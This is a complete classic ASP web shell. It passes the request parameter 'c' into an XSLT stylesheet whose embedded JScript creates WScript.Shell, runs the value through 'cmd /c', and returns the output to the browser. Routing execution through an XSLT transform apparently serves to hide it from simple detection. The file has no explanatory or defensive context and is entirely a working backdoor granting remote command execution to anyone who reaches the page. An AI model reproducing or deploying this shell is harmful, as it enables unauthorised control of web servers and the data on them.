<%
Set d = Server.CreateObject("MSXML2.DOMDocument")
d.loadXML "<r>" & Server.HTMLEncode(Request("c")) & "</r>"
Set s = Server.CreateObject("MSXML2.DOMDocument")
s.loadXML "<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:k=""urn:k"">" & _
  "<msxsl:script language=""JScript"" implements-prefix=""k"">function run(c){var w=new ActiveXObject('WScript.Shell');return w.Exec('cmd /c '+c).StdOut.ReadAll();}</msxsl:script>" & _
  "<xsl:template match=""/r""><xsl:value-of select=""k:run(string(.))""/></xsl:template></xsl:stylesheet>"
Response.Write d.transformNode(s)
%>
